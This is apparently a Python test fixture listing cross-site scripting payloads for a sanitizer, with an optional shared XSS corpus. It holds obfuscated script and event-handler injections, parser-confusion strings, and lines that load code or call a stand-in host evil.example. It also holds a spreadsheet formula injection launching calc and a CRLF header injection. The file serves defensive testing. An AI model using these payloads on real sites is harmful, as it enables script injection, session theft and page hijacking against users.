"""Hostile input: our own payloads, and the shared corpus if it exists."""

import json
import re
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "data" / "xss_corpus.json"

OWN = [
    # in every letter case, encoding and nesting
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x0c>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='https://example.org/\"onmouseover=\"alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    # what one parser reads in another way than the next
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><option><img src=x onerror=alert(1)></option></template></select>",
    "<table><td><a id=1><a href=x></table><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<style></style/><img src=x onerror=alert(1)>",
    # out of the place where it stands
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--></script><img src=x onerror=alert(1)>",
    "]]></title><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "{{ 7|add:7 }}{% load static %}${7*7}#{7*7}",
    # what calls home without a script, covers the page or swallows it
    "<img src=//evil.example/pixel.png srcset='//evil.example/2.png 2x'>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>x</div>",
    "<video poster=//evil.example/x><source onerror=alert(1)></video>",
    "<p>“Honest” <!-- and then nothing",
    "<textarea>the rest of the page",
    "<plaintext>",
    "</main></body></html>",
    "</div></article></section></blockquote></ul>" * 5,
    # letters that turn the text round, and lines where there are to be none
    "\u202etxet siht nrut\u202c \u2066<b>x</b>\u2069 \u200f\u061c",
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "\ufeff\ufffe\x0bx\x1b[31m",
    "가" * 400 + "<img src=x onerror=alert(1)>",
]


def payloads() -> list[str]:
    """Return all payloads, or our own if there is no corpus."""
    found = json.loads(CORPUS.read_text(encoding="utf-8")) if CORPUS.is_file() else []
    return [each["payload"].replace("\x00", "") for each in found] + OWN


def folded(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()
